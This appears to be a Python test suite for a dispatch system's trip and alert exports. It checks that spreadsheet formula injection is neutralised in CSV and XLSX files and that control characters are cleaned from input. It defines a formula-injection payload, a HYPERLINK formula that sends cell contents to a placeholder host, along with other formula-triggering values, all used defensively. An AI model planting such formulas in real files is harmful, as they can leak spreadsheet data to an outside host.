"""Exports cannot carry formulas (issue 9 item 6) and text is cleaned on the way in (issue 18
item 1): a purpose typed as a formula is text in the CSV and the XLSX, control characters
never reach a file."""

from __future__ import annotations

import csv
import io

import httpx
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from tests.conftest import Login
from tests.dispatch.conftest import API, World, trip_body

FORMULA = '=HYPERLINK("http://x"&A1,"点击")'


async def test_a_formula_in_a_purpose_is_text_in_csv_and_xlsx(
    client: httpx.AsyncClient, login: Login, world: World
) -> None:
    req = await login("requester.qingxiu")
    r = await client.post(
        f"{API}/trips",
        json=trip_body(world, purpose=FORMULA, special_needs="@SUM(1+1)", passenger_names=["-2+3"]),
        headers=req,
    )
    assert r.status_code == 201, r.text
    trip = r.json()
    assert trip["purpose"] == FORMULA  # stored as typed: neutralised where it is exported
    auditor = await login("auditor")

    r = await client.get(f"{API}/exports/trips.csv", headers=auditor)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    mine = next(row for row in body if row[0] == str(trip["id"]))
    purpose = mine[header.index("事由 Purpose")]
    assert purpose == "'" + FORMULA
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )

    r = await client.get(f"{API}/exports/trips.xlsx", headers=auditor)
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ids = [c for c in cells if c.column == 1 and c.value == trip["id"]]
    assert ids and ids[0].data_type == "n"  # numbers stay numbers
    purpose_cell = ws.cell(
        row=ids[0].row, column=[c.value for c in ws[1]].index("事由 Purpose") + 1
    )
    assert purpose_cell.data_type == "s" and purpose_cell.value == "'" + FORMULA


async def test_control_characters_are_cleaned_on_the_way_in(
    client: httpx.AsyncClient, login: Login, session: AsyncSession, world: World
) -> None:
    req = await login("requester.qingxiu")
    body = trip_body(world, purpose="到\u001a区政务\u0000中心\r\n开会\u0085")
    body["origin"]["address"] = "青秀区\u0007人民政府"
    r = await client.post(f"{API}/trips", json=body, headers=req)
    assert r.status_code == 201, r.text
    trip = r.json()
    assert trip["purpose"] == "到区政务中心\n开会"
    assert trip["origin"]["address"] == "青秀区人民政府"
    # Only control characters: nothing is left, so the purpose is too short.
    r = await client.post(
        f"{API}/trips", json=trip_body(world, purpose="\u0001\u0002\u001a"), headers=req
    )
    assert r.status_code == 422 and r.json()["error"]["field"] == "purpose"

    # An alert acknowledged with a comment holding \u001a (it used to make alerts.xlsx 500).
    alert = await session.scalar(
        text(
            "INSERT INTO alerts (kind, vehicle_id, org_id, started_at, message) SELECT"
            " 'private_use', v.id, v.unit_id, now(), '测试' FROM vehicles v"
            " WHERE v.unit_id = :u ORDER BY v.id LIMIT 1 RETURNING id"
        ),
        {"u": world.pool_unit},
    )
    await session.commit()
    disp = await login("dispatcher.qingxiu")
    r = await client.post(
        f"{API}/alerts/{alert}/acknowledge", json={"comment": "已核实\u001a无误"}, headers=disp
    )
    assert r.status_code == 200, r.text
    assert r.json()["ack_comment"] == "已核实无误"
    r = await client.get(f"{API}/exports/alerts.xlsx", headers=await login("admin"))
    assert r.status_code == 200
    load_workbook(io.BytesIO(r.content))
